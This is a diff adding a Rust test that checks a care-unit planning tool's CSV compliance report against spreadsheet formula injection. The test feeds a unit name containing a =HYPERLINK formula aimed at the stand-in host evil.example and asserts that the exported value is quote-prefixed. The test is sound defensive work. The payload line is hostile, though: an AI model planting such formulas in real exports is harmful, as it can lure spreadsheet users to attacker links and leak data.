@@ -743,3 +743,34 @@ fn the_year_defaults_to_the_clocks() {
         "already 2027 in Stockholm"
     );
 }
+
+#[test]
+fn a_unit_name_that_is_a_formula_is_neutralised_in_the_csv() {
+    let evil = r#"=HYPERLINK("http://evil.example/?x","Klicka")"#;
+    let toml = SMALL_ORG.replace("name = \"Hemtjänst\"", &format!("name = '{evil}'"));
+    assert!(toml.contains(evil));
+    let cfg = ConfigDir::new(&toml, Some(&staff_csv(&[("hemtjanst", 10), ("boende", 3)])));
+    let db = TestDb::sqlite();
+    let now = "2027-05-10T12:00:00+02:00";
+    let plan = support::run_on(
+        &cfg.arg(),
+        &db.url,
+        Some(now),
+        &["plan", "--month", "2027-05"],
+    );
+    assert_eq!(plan.code, 0, "{}", plan.stderr);
+    let r = support::run_on(
+        &cfg.arg(),
+        &db.url,
+        Some(now),
+        &["report", "compliance", "--format", "csv"],
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let mut reader = csv::Reader::from_reader(r.stdout.as_bytes());
+    let names: Vec<String> = reader
+        .records()
+        .map(|rec| rec.unwrap()[1].to_owned())
+        .collect();
+    assert!(names.contains(&format!("'{evil}")), "{names:?}");
+    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
+}
